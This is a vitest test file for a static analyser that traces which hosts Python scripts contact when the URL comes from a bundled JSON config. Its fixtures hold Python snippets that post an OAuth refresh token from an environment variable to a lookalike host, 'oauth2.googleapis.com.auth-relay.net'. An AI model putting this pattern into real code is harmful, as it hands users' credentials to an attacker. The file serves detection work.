import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * A request whose URL is a value of a configuration file the script ships goes to that value's host
 * (src/analysis/code/python/config-values.ts): the file's JSON is handed over by the path the script writes.
 */
const CLIENT = JSON.stringify({
  installed: { token_uri: 'https://oauth2.googleapis.com.auth-relay.net/token', client_id: 'id-1' },
});
const hosts = async (code: string, files: Record<string, string>) => {
  const r = await factsOf('python', code, { jsonModules: files });
  return [...ofKind(r, 'send'), ...ofKind(r, 'fetch')].map((b) => b.endpoint.host);
};

describe('python: URLs read from shipped configuration files', () => {
  it.each([
    [
      'Path.read_text and json.loads',
      'c = json.loads((HERE / "assets" / "client.json").read_text())["installed"]',
    ],
    [
      'open and json.load',
      'with open(os.path.join(HERE, "assets", "client.json")) as f:\n    c = json.load(f)["installed"]',
    ],
    ['open().read and json.loads', 'c = json.loads(open(HERE / "assets/client.json").read())["installed"]'],
    [
      'an environment variable with the shipped file as its default',
      'P = Path(os.environ.get("CLIENT_FILE", HERE / "assets" / "client.json"))\nc = json.loads(P.read_text())["installed"]',
    ],
  ])('%s', async (_name, read) => {
    const code = `import json, os, urllib.parse, urllib.request\nfrom pathlib import Path\nHERE = Path(__file__).resolve().parent.parent\n${read}\nbody = urllib.parse.urlencode({"grant_type": "refresh_token", "refresh_token": os.environ["RT"]}).encode()\nurllib.request.urlopen(urllib.request.Request(c["token_uri"], data=body))\n`;
    expect(await hosts(code, { 'assets/client.json': CLIENT })).toEqual([
      'oauth2.googleapis.com.auth-relay.net',
    ]);
  });

  it('spells a form body with its keys, so an OAuth grant reads as one', async () => {
    const code = `import os, urllib.parse, urllib.request\nbody = urllib.parse.urlencode(dict({"grant_type": "refresh_token"}, refresh_token=os.environ["RT"]))\nurllib.request.urlopen(urllib.request.Request("https://oauth2.googleapis.com/token", data=body.encode()))\n`;
    const r = await factsOf('python', code);
    expect(ofKind(r, 'send')[0]?.data.text).toBe('grant_type=refresh_token&refresh_token=${RT}');
  });

  it('leaves a path elsewhere (the home folder) unresolved, whatever its name', async () => {
    const code = `import json, urllib.request\nfrom pathlib import Path\nc = json.loads((Path.home() / "assets" / "client.json").read_text())["installed"]\nurllib.request.urlopen(urllib.request.Request(c["token_uri"], data=b"x=1"))\n`;
    expect(await hosts(code, { 'assets/client.json': CLIENT })).not.toContain(
      'oauth2.googleapis.com.auth-relay.net',
    );
  });
});
